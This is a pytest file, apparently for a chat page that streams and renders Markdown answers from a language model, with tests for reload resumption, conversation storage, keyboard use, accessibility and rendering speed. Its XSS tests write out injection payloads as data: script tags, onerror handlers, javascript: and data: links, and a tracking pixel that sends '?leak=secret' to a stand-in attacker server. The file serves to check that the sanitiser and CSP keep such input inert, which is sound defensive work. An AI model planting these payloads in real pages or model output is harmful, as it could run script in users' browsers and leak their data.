"""The chat page as people use it every day (issue 15), in Debian's Chromium: Markdown from
the model rendered safely, an answer that reads on after a reload, the conversation kept,
the keys, an accessibility check, and a long answer that keeps the page responsive.

The Markdown of the demo answer, and its code block's Copy, are in tests/test_page.py.
"""

from __future__ import annotations

import asyncio
import json

import pytest
from tornado.httpserver import HTTPServer
from tornado.testing import bind_unused_port
from tornado.web import Application, RequestHandler

from relay import demo
from tests.chatpage import (
    MODES,
    TIMEOUT,
    ask,
    gated,
    hanging,
    needs_chromium,
    open_in_mode,
    open_page,
    record_console,
    turn_info,
    wait_state,
    wait_text,
    wait_until,
)
from tests.fakeupstream import answer_frames, chunk, send_frames, stream_tokens

pytestmark = needs_chromium


# -- Markdown, safely ------------------------------------------------------------


class Attacker:
    """A server on another origin (another port) that an answer tries to make the page
    reach: it records every request it gets."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        attacker = self

        class Record(RequestHandler):
            def get(self, path: str) -> None:
                attacker.requests.append(self.request.uri)

        sock, port = bind_unused_port()
        self.origin = f"http://127.0.0.1:{port}"
        self.server = HTTPServer(Application([(r"/(.*)", Record)]))
        self.server.add_sockets([sock])


@pytest.fixture
def attacker(io_loop):
    server = Attacker()
    yield server
    server.server.stop()


def xss_answer(origin: str) -> str:
    """Markdown from a model that tries everything: none of it may run or load."""
    return "\n\n".join(
        [
            "Harmless text first.",
            "<script>alert('script')</script>",
            "<img src=x onerror=\"alert('onerror')\">",
            "[js link](javascript:alert('js-link')) and <javascript:alert('autolink')>",
            "<a href=\"data:text/html,<script>alert('data')</script>\">data html link</a>",
            "[data md link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            f'<iframe src="{origin}/frame"></iframe>',
            f"![tracking pixel]({origin}/pixel.png?leak=secret)",
            f'<img src="{origin}/raw.png">',
            "<svg onload=\"alert('svg')\"></svg>",
            "<kbd>x <img/src=x onerror=alert('raw-block')></kbd>",
            f"<style>body {{ background: url({origin}/css.png) }}</style>",
            "The end.",
        ]
    )


def pieces(text: str, size: int = 7) -> list[str]:
    """Split into tokens that cut tags and URLs, as a model's tokens do."""
    return [text[i : i + size] for i in range(0, len(text), size)]


async def watch(page, dialogs: list[str], requests: dict[str, str], origin: str) -> None:
    """Record dialogs (dismissed), and the page's requests to ``origin`` with how they
    ended ("" while they run; a request that the CSP refuses is seen, then fails)."""

    async def on_dialog(dialog) -> None:
        dialogs.append(dialog.message)
        await dialog.dismiss()

    def on_request(request) -> None:
        if request.url.startswith(origin):
            requests[request.url] = ""

    def on_failed(request) -> None:
        if request.url.startswith(origin):
            requests[request.url] = request.failure

    page.on("dialog", on_dialog)
    page.on("request", on_request)
    page.on("requestfailed", on_failed)


ANSWER_DOM = """() => {
  const body = document.querySelector('.turn .body');
  const all = [...body.querySelectorAll('*')];
  return {
    active: body.querySelectorAll('script, iframe, svg, style, img, object, embed, form').length,
    handlers: all.flatMap(e => [...e.attributes].map(a => a.name)).filter(n => n.startsWith('on')),
    hrefs: [...body.querySelectorAll('a')].map(a => [a.getAttribute('href'), a.textContent,
                                                      a.target, a.rel]),
    text: body.innerText,
  };
}"""

# The same vectors as raw HTML, put into the page without the sanitiser.
RAW = """<img src="data:," onerror="alert('raw-onerror')"><iframe src="{o}/raw-frame"></iframe>
<img src="{o}/raw-img.png"><a id=raw-js href="javascript:alert('raw-js')">js</a>"""

INSERT_RAW = """raw => {
  const box = document.createElement('div');
  box.innerHTML = raw;
  document.querySelector('.turn .body').append(box);
  document.getElementById('raw-js').click();
}"""

SANITISE_RAW = """async raw => {
  const { sanitize } = await import('/static/markdown.js');
  const box = document.createElement('div');
  box.id = 'sanitised';
  box.append(sanitize(raw));
  document.querySelector('.turn .body').append(box);
  return box.innerHTML;
}"""


@pytest.mark.parametrize("csp", [True, False], ids=["csp", "no-csp"])
@pytest.mark.gen_test(timeout=TIMEOUT)
async def test_xss_in_an_answer_is_inert(relay, fake, open_chat, attacker, csp):
    """With the page's CSP, and with it bypassed, so that the escaping and sanitising are
    tested on their own; the CSP on its own stops the same vectors put in as raw HTML."""
    origin = attacker.origin
    source = xss_answer(origin)
    fake.script = stream_tokens(pieces(source))
    chat = open_chat(bypass_csp=not csp)
    page = chat.page
    dialogs: list[str] = []
    requests: dict[str, str] = {}
    console: list[str] = []
    await chat.run(watch(page, dialogs, requests, origin))
    await chat.run(record_console(page, console))
    await chat.run(open_page(page, relay.url))
    await chat.run(ask(page, "try everything"))
    info = await chat.run(wait_state(page, 0, "done", "error"))
    assert info["error"] is None and info["text"] == source
    dom = await chat.run(page.evaluate(ANSWER_DOM))
    assert dom["active"] == 0 and dom["handlers"] == []
    # The one link left is the image from another origin, shown as a link, not loaded.
    pixel = f"{origin}/pixel.png?leak=secret"
    assert dom["hrefs"] == [[pixel, "tracking pixel", "_blank", "noopener noreferrer"]]
    # Raw HTML shows as the text the model wrote; unsafe links keep only their text.
    for shown in ("<script>alert('script')</script>", '<iframe src="', "<svg onload="):
        assert shown in dom["text"]
    assert "js link and javascript:alert('autolink')" in dom["text"]
    assert "data md link" in dom["text"] and "The end." in dom["text"]
    assert requests == {}, "nothing from the answer was even attempted"
    if csp:
        assert console == [], "the sanitiser left the CSP nothing to stop"
        # The CSP alone: the raw vectors, with no sanitiser, are refused.
        await chat.run(page.evaluate(INSERT_RAW, RAW.format(o=origin)))
        # Refused: the frame, the image, the javascript: URL, the inline handler.
        await wait_until(lambda: len(console) >= 4, timeout=5)
        assert all("Content Security Policy" in line for line in console), console
        await wait_until(lambda: all(requests.values()), timeout=5)
        assert all("csp" in why.lower() for why in requests.values()), requests
    else:
        # The sanitiser alone, on raw HTML (no Markdown escaping before it).
        html = await chat.run(page.evaluate(SANITISE_RAW, RAW.format(o=origin)))
        assert "onerror" not in html and "iframe" not in html and "javascript" not in html
        assert origin not in html
        await chat.run(page.wait_for_timeout(300))
        assert requests == {}
    assert dialogs == [] and attacker.requests == []


@pytest.mark.gen_test(timeout=TIMEOUT)
async def test_an_answer_cut_by_length_or_a_filter_says_so(relay, fake, open_chat):
    chat = open_chat()
    page = chat.page
    await chat.run(open_page(page, relay.url))
    reasons = ["length", "content_filter", "stop"]
    for n, reason in enumerate(reasons):
        frames = answer_frames(["Part of ", "an answer"], finish=False)
        frames += [f"data: {chunk({}, reason)}\n\n".encode(), b"data: [DONE]\n\n"]
        fake.script = send_frames(frames)
        await chat.run(ask(page, f"question {n}"))
        info = await chat.run(wait_state(page, n, "done", "error"))
        assert info["error"] is None and info["text"] == "Part of an answer"
        if reason == "stop":
            assert info["finish"] is None
        else:
            assert f"(finish_reason {reason})" in info["finish"]
    assert "length limit" in (await chat.run(turn_info(page, 0)))["finish"]
    assert "content filter" in (await chat.run(turn_info(page, 1)))["finish"]


# -- reloads and the kept conversation ------------------------------------------------


async def record_asks(page, asks: list[dict]) -> None:
    """The page's requests for answers: POSTs to streamAsk, and stream GETs."""

    def on_request(request) -> None:
        if "/aianswer/stream" in request.url:
            asks.append({"url": request.url, "headers": request.headers})

    page.on("request", on_request)


STRONG = "() => [...document.querySelectorAll('.turn .body strong')].map(s => s.textContent)"


@MODES
@pytest.mark.gen_test(timeout=TIMEOUT)
async def test_a_reload_mid_answer_reads_on_exactly_with_one_upstream_call(
    relay, fake, open_chat, mode
):
    tokens = [f"**{i}** 段 " if i % 9 else "\n\n" for i in range(60)]
    gate = asyncio.Event()
    fake.script = gated(tokens, 30, gate)
    chat = open_chat()
    page = chat.page
    asks: list[dict] = []
    await chat.run(record_asks(page, asks))
    await open_in_mode(chat, relay.url, mode)
    await chat.run(ask(page, "a long answer, please"))
    await chat.run(wait_text(page, 0, "".join(tokens[:30])))
    await chat.run(open_page(page, relay.url))  # the reload
    info = await chat.run(turn_info(page, 0))
    assert info["state"] == "streaming", info["error"]
    assert info["text"] == "".join(tokens[:30])
    assert info["question"] == "a long answer, please"
    gate.set()
    info = await chat.run(wait_state(page, 0, "done", "error"))
    assert info["error"] is None and info["text"] == "".join(tokens)
    numbers = [str(i) for i in range(60) if i % 9]
    assert await chat.run(page.evaluate(STRONG)) == numbers, "each token shown once"
    assert len(fake.requests) == 1
    # It read on after the 30th event: one-shot with the same key and body, resumable
    # from the same session.
    first, again = asks[0], asks[-1]
    if mode == "oneshot":
        assert len(asks) == 2 and again["headers"]["last-event-id"] == "30"
        assert again["headers"]["idempotency-key"] == first["headers"]["idempotency-key"]
    else:
        assert again["url"] == f"{first['url']}?lastEventId=30"
    await wait_until(lambda: not relay.relay.streams)


STALE = """([key, body]) => {
  localStorage.setItem('relay.chat', JSON.stringify([{ q: 'old question', a: '', r: '',
    state: 'streaming', finish: '', stats: '', error: '' }]));
  localStorage.setItem('relay.live', JSON.stringify({ q: 'old question', a: 'stale **text**',
    r: '', id: 5, finish: '', mode: 'oneshot', key }));
  localStorage.setItem('relay.request', body);
}"""


@pytest.mark.gen_test(timeout=TIMEOUT)
async def test_an_answer_the_relay_forgot_is_replaced_not_mixed(relay, fake, open_chat):
    """Reopened after the relay's session TTL, the same key starts a new answer, numbered
    from 1: the page shows that answer alone."""
    fake.script = stream_tokens(["a new ", "answer"])
    chat = open_chat()
    page = chat.page
    await chat.run(open_page(page, relay.url))
    body = json.dumps({"robotId": "1", "aiQuestion": "old question", "aiQuestionHistory": []})
    await chat.run(page.evaluate(STALE, ["k" * 32, body]))
    await chat.run(open_page(page, relay.url))
    info = await chat.run(wait_state(page, 0, "done", "error"))
    assert info["error"] is None and info["text"] == "a new answer"
    assert "stale" not in info["rendered"] and len(fake.requests) == 1


@pytest.mark.gen_test(timeout=TIMEOUT)
async def test_the_conversation_is_kept_across_a_reload_and_new_chat_clears_it(
    relay, fake, open_chat
):
    chat = open_chat()
    page = chat.page
    await chat.run(open_page(page, relay.url))
    for n, tokens in enumerate([["**first**", " answer"], ["second ", "`answer`"]]):
        fake.script = stream_tokens(tokens)
        await chat.run(ask(page, f"question {n}"))
        await chat.run(wait_state(page, n, "done"))
    await chat.run(open_page(page, relay.url))  # the reload
    first, second = [await chat.run(turn_info(page, n)) for n in range(2)]
    assert first["text"] == "**first** answer" and "<strong>first</strong>" in first["html"]
    assert second["text"] == "second `answer`" and "<code>answer</code>" in second["html"]
    assert first["state"] == second["state"] == "done" and "first token" in second["stats"]
    regenerate = "article.turn:nth-of-type({}) .regenerate"
    assert not await chat.run(page.is_visible(regenerate.format(1)))
    # Regenerate the last answer: a new answer in its place, with the history before it.
    fake.script = stream_tokens(["again"])
    await chat.run(page.click(regenerate.format(2)))
    await chat.run(wait_text(page, 1, "again"))
    await chat.run(wait_state(page, 1, "done"))
    assert fake.requests[-1]["body"]["messages"][1:] == [
        {"role": "user", "content": "question 0"},
        {"role": "assistant", "content": "**first** answer"},
        {"role": "user", "content": "question 1"},
    ]
    await chat.run(open_page(page, relay.url))
    assert (await chat.run(turn_info(page, 1)))["text"] == "again"
    await chat.run(page.click("#new-chat"))
    await chat.run(open_page(page, relay.url))
    assert await chat.run(page.locator(".turn").count()) == 0
    assert await chat.run(page.is_visible("#empty"))
    assert len(fake.requests) == 3


SEED = """records => {
  localStorage.setItem('relay.chat', JSON.stringify(records.map(([q, a]) => (
    { q, a, r: '', state: 'done', finish: 'stop', stats: '', error: '' }))));
}"""


@pytest.mark.gen_test(timeout=TIMEOUT)
async def test_the_history_sent_is_trimmed_to_the_servers_limits(relay, fake, open_chat):
    chat = open_chat()
    page = chat.page
    await chat.run(open_page(page, relay.url))
    # 250 kept turns: the newest 200 pairs go.
    await chat.run(page.evaluate(SEED, [[f"q{i}", f"a{i}"] for i in range(250)]))
    await chat.run(open_page(page, relay.url))
    await chat.run(ask(page, "with a long history"))
    # The page shows every kept turn: the new one is the 251st (turn 200 is already done).
    await chat.run(wait_state(page, 250, "done"))
    messages = fake.requests[-1]["body"]["messages"]
    assert len(messages) == 1 + 2 * 200 + 1
    assert messages[1:3] == [
        {"role": "user", "content": "q50"},
        {"role": "assistant", "content": "a50"},
    ]
    # Long answers: the newest pairs that fit in the 1 MiB body go (six of 150,000 bytes).
    big = [[f"q{i}", "x" * 150_000] for i in range(8)]
    await chat.run(page.evaluate(SEED, big))
    await chat.run(open_page(page, relay.url))
    await chat.run(ask(page, "with long answers"))
    info = await chat.run(wait_state(page, 8, "done", "error"))
    assert info["error"] is None
    messages = fake.requests[-1]["body"]["messages"]
    assert [m["content"] for m in messages[1:-1:2]] == [f"q{i}" for i in range(2, 8)]


# -- keys, and an accessibility check ------------------------------------------------


@pytest.mark.gen_test(timeout=TIMEOUT)
async def test_keys_enter_sends_escape_stops_and_copy_works_from_the_keyboard(
    relay, fake, open_chat
):
    fake.script = hanging(["partial ", "answer"])
    chat = open_chat(permissions=["clipboard-read", "clipboard-write"])
    page = chat.page
    await chat.run(open_page(page, relay.url))
    await chat.run(page.keyboard.type("stream, then hang"))  # the question box has the focus
    await chat.run(page.keyboard.press("Enter"))
    await chat.run(wait_text(page, 0, "partial answer"))
    await chat.run(page.keyboard.press("Escape"))
    info = await chat.run(wait_state(page, 0, "stopped"))
    assert info["text"] == "partial answer"
    await asyncio.wait_for(fake.disconnected.wait(), 5)
    assert await chat.run(page.evaluate("document.activeElement.id")) == "question"
    fake.script = stream_tokens(["```js\n", "let x = 1;\n", "```"])
    await chat.run(page.keyboard.type("some code"))
    await chat.run(page.keyboard.press("Enter"))
    await chat.run(wait_state(page, 1, "done"))
    await chat.run(page.focus("article.turn:nth-of-type(2) .code-copy"))
    await chat.run(page.keyboard.press("Enter"))
    await chat.run(page.wait_for_selector(".turn .code-copy:text-is('Copied')"))
    assert await chat.run(page.evaluate("navigator.clipboard.readText()")) == "let x = 1;"
    # The code scrolls sideways from the keyboard too: the next stop is its <pre>.
    await chat.run(page.keyboard.press("Tab"))
    assert await chat.run(page.evaluate("document.activeElement.tagName")) == "PRE"


AXE = """async () => {
  const result = await axe.run(document, { resultTypes: ['violations'] });
  return result.violations
    .filter(v => v.impact === 'serious' || v.impact === 'critical')
    .map(v => ({ id: v.id, impact: v.impact, nodes: v.nodes.map(n => n.html).slice(0, 3) }));
}"""


@pytest.mark.gen_test(timeout=TIMEOUT)
async def test_axe_finds_no_serious_violations(make_relay, open_chat, node_modules):
    rs = make_relay(demo_token_delay=0.001)
    chat = open_chat()
    page = chat.page
    await chat.run(open_page(page, rs.url))
    await chat.run(ask(page, "你好"))
    await chat.run(wait_state(page, 0, "done"))
    live = await chat.run(page.get_attribute("#turns", "aria-live"))
    busy = await chat.run(page.get_attribute(".turn .answer", "aria-busy"))
    assert live == "polite" and busy == "false"
    # The page's CSP refuses an injected <script>; evaluate is not a script element.
    await chat.run(page.evaluate((node_modules / "axe-core" / "axe.min.js").read_text()))
    for scheme in ("light", "dark"):
        await chat.run(page.emulate_media(color_scheme=scheme))
        assert await chat.run(page.evaluate(AXE)) == [], scheme


# -- a long answer -----------------------------------------------------------------

SECTION = """## Section {n}

Streaming **Markdown** with `inline code`, a [link](https://example.com/{n}) and a list:

- the first item, with a few words in it
- the second item, with a few more words

| name | value | note |
|---|---:|---|
| alpha | {n} | the first row |
| beta | {m} | the second row |

```python
def scaled_{n}(values, factor={n}):
    # one line of comment
    return [value * factor for value in values if value > 0]
```

"""

# Long tasks and the longest gap between frames while the answer streams.
OBSERVE = """
window.longTasks = [];
new PerformanceObserver(list => window.longTasks.push(
  ...list.getEntries().map(e => ({ start: e.startTime, duration: e.duration }))
)).observe({ type: 'longtask', buffered: true });
window.frameGap = 0;
let last = 0;
const frame = now => {
  if (last && window.measuring) window.frameGap = Math.max(window.frameGap, now - last);
  last = now;
  requestAnimationFrame(frame);
};
requestAnimationFrame(frame);
"""


SAME_AS_AT_ONCE = """async source => {
  const { MarkdownView } = await import('/static/markdown.js');
  const streamed = document.querySelector('.turn .body').cloneNode(true);
  streamed.querySelector('.cursor').remove();
  const once = document.createElement('div');
  new MarkdownView(once).render(source);
  return streamed.innerHTML === once.innerHTML && once.querySelectorAll('pre').length === 15;
}"""


@pytest.mark.gen_test(timeout=TIMEOUT)
async def test_a_2000_token_answer_streams_without_long_tasks(relay, fake, open_chat):
    text = "".join(SECTION.format(n=n, m=n * 7) for n in range(80))
    tokens = demo.tokens(text)[:2000]
    assert len(tokens) == 2000
    fake.script = stream_tokens(tokens, delay=0.001)
    chat = open_chat()
    page = chat.page
    await chat.run(page.add_init_script(OBSERVE))
    await chat.run(open_page(page, relay.url))
    started = await chat.run(page.evaluate("window.measuring = true; performance.now()"))
    await chat.run(ask(page, "a long answer"))
    info = await chat.run(wait_state(page, 0, "done", "error"))
    assert info["error"] is None and info["text"] == "".join(tokens)
    tasks = await chat.run(page.evaluate("window.longTasks"))
    gap = await chat.run(page.evaluate("window.frameGap"))
    longest = max([t["duration"] for t in tasks if t["start"] >= started], default=0)
    print(f"\n2,000 tokens: longest task {longest:.0f} ms, longest frame gap {gap:.0f} ms")
    assert longest < 200, tasks
    # Drawn block by block as it grew, it is what the whole text renders to at once.
    assert await chat.run(page.evaluate(SAME_AS_AT_ONCE, info["text"]))
